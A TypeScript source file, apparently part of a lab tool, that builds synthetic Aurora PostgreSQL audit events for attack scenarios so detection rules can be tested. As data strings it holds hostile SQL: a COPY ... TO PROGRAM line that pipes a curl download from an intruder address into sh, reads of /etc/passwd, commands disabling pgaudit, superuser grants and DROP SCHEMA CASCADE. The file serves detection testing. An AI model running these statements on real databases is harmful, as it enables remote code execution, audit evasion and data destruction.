import type { DasEvent } from 'das-read';
import { authFailure, stepEvent, type Actor, type Step } from './app-activity.js';
import type { PostgresServer } from './pgbench-synthetic.js';

/** The intruder: a host no one has connected from, with the tools an intruder brings. */
export const INTRUDER_HOST = '203.0.113.66';
const INTRUDER: Actor = { dbUserName: 'app_owner', remoteHost: INTRUDER_HOST, clientApplication: 'psql' };
const as = (dbUserName: string, clientApplication: string | null = 'psql'): Actor => ({ dbUserName, remoteHost: INTRUDER_HOST, clientApplication });

/** One thing the intruder does, and how long after the scenario's start. */
interface Move {
  afterMs: number;
  actor: Actor;
  step: Step;
}

export interface AttackScenario {
  name: string;
  /** What it does, in a line, as `das-read lab --attack list` says it. */
  summary: string;
  moves(): Move[];
}

const stepsAt = (everyMs: number, actor: Actor, steps: Step[]): Move[] => steps.map((step, n) => ({ afterMs: n * everyMs, actor, step }));

const statement = (klass: string, command: string, commandText: string, extra: Partial<Step> = {}): Step => ({ class: klass, command, commandText, ...extra });

/** Users an intruder tries one password against each: names any database might have. */
export const SPRAYED_USERS = ['admin', 'postgres', 'root', 'dbadmin', 'app', 'app_owner', 'analyst', 'backup', 'test', 'readonly', 'etl', 'report'];

/**
 * Every scenario a built-in rule catches (rules/builtin/), as the events Aurora PostgreSQL would
 * report for it. Bursts are spaced so that they fit the rules' windows with room to spare.
 */
export const ATTACKS: readonly AttackScenario[] = [
  {
    name: 'failed-login-burst',
    summary: '10 refused logins as app_owner from one host in 20 seconds (a password guessed)',
    moves: () =>
      stepsAt(
        2_000,
        as('app_owner'),
        Array.from({ length: 10 }, () => authFailure('app_owner')),
      ),
  },
  {
    name: 'password-spray',
    summary: `one host tries one password against ${SPRAYED_USERS.length} users in 24 seconds`,
    moves: () => SPRAYED_USERS.map((user, n) => ({ afterMs: n * 2_000, actor: as(user), step: authFailure(user) })),
  },
  {
    name: 'privilege-escalation',
    summary: 'a new superuser role, ALTER ROLE … SUPERUSER, and rds_superuser granted',
    moves: () =>
      stepsAt(1_000, INTRUDER, [
        statement('ROLE', 'CREATE ROLE', "CREATE ROLE maint_svc WITH LOGIN SUPERUSER PASSWORD '<redacted>';"),
        statement('ROLE', 'ALTER ROLE', 'ALTER ROLE app_owner WITH SUPERUSER CREATEROLE;'),
        statement('ROLE', 'GRANT', 'GRANT rds_superuser TO app_owner;'),
      ]),
  },
  {
    name: 'audit-tampering',
    summary: "pgaudit turned off for the session and the server, and log_statement set to 'none'",
    moves: () =>
      stepsAt(1_000, INTRUDER, [
        statement('MISC', 'SET', "SET pgaudit.log = 'none';"),
        statement('MISC', 'ALTER SYSTEM', "ALTER SYSTEM SET pgaudit.log = 'none';"),
        statement('MISC', 'SET', "SET log_statement = 'none';"),
      ]),
  },
  {
    name: 'destructive-ddl',
    summary: 'TRUNCATE, DROP TABLE and DROP SCHEMA … CASCADE',
    moves: () =>
      stepsAt(1_000, INTRUDER, [
        statement('WRITE', 'TRUNCATE TABLE', 'TRUNCATE pgbench_history;', { objectType: 'TABLE', objectName: 'public.pgbench_history' }),
        statement('DDL', 'DROP TABLE', 'DROP TABLE pgbench_branches CASCADE;', { objectType: 'TABLE', objectName: 'public.pgbench_branches' }),
        statement('DDL', 'DROP SCHEMA', 'DROP SCHEMA reporting CASCADE;', { objectType: 'SCHEMA', objectName: 'reporting' }),
      ]),
  },
  {
    name: 'server-file-access',
    summary: 'COPY … TO PROGRAM, pg_read_file and lo_import: the server reaching its files and shell',
    moves: () =>
      stepsAt(1_000, INTRUDER, [
        statement('READ', 'COPY', "COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.66/x | sh';"),
        statement('READ', 'SELECT', "SELECT pg_read_file('/etc/passwd');", { rowCount: 1 }),
        statement('READ', 'SELECT', "SELECT lo_import('/etc/passwd');", { rowCount: 1 }),
      ]),
  },
  {
    name: 'bulk-read',
    summary: 'every row of pgbench_accounts read in one statement (100,000 rows)',
    moves: () =>
      stepsAt(0, INTRUDER, [
        statement('READ', 'SELECT', 'SELECT * FROM pgbench_accounts;', { objectType: 'TABLE', objectName: 'public.pgbench_accounts', rowCount: 100_000 }),
      ]),
  },
  {
    name: 'catalog-enumeration',
    summary: '30 reads of information_schema and pg_catalog in 15 seconds (mapping the database)',
    moves: () =>
      stepsAt(
        500,
        INTRUDER,
        Array.from({ length: 30 }, (_, n) => {
          const [table, column] = CATALOG_TABLES[n % CATALOG_TABLES.length] as [string, string];
          return statement('READ', 'SELECT', `SELECT ${column} FROM ${table};`, { objectType: 'TABLE', objectName: table, rowCount: 12 });
        }),
      ),
  },
  {
    name: 'new-source',
    summary: `app_owner connects from ${INTRUDER_HOST}, a host it has never connected from`,
    moves: () => [{ afterMs: 0, actor: INTRUDER, step: { class: 'MISC', command: 'CONNECT', commandText: null } }],
  },
];

const CATALOG_TABLES: ReadonlyArray<[string, string]> = [
  ['information_schema.tables', 'table_schema, table_name'],
  ['information_schema.columns', 'table_name, column_name, data_type'],
  ['pg_catalog.pg_roles', 'rolname, rolsuper'],
  ['pg_catalog.pg_user', 'usename, usesuper'],
  ['information_schema.role_table_grants', 'grantee, table_name, privilege_type'],
  ['pg_catalog.pg_namespace', 'nspname'],
];

export const ATTACK_NAMES: readonly string[] = ATTACKS.map((attack) => attack.name);

/** The scenario of this name, or undefined. */
export function attackNamed(name: string): AttackScenario | undefined {
  return ATTACKS.find((attack) => attack.name === name);
}

/** The scenario's events, the first at `atMicros`, each in a session of its own as a client tool makes them. */
export function attackEvents(server: PostgresServer, scenario: AttackScenario, atMicros: number): DasEvent[] {
  const pid = 50_000 + Math.floor((atMicros / 1e6) % 10_000);
  // A refused login is a connection of its own; the statements share the intruder's one session.
  return scenario.moves().map((move, n) => {
    const at = atMicros + move.afterMs * 1000;
    const session = move.step.commandText === null ? { pid: pid + n, startMicros: at } : { pid, startMicros: atMicros };
    return stepEvent(server, move.actor, move.step, at, session, n + 1);
  });
}
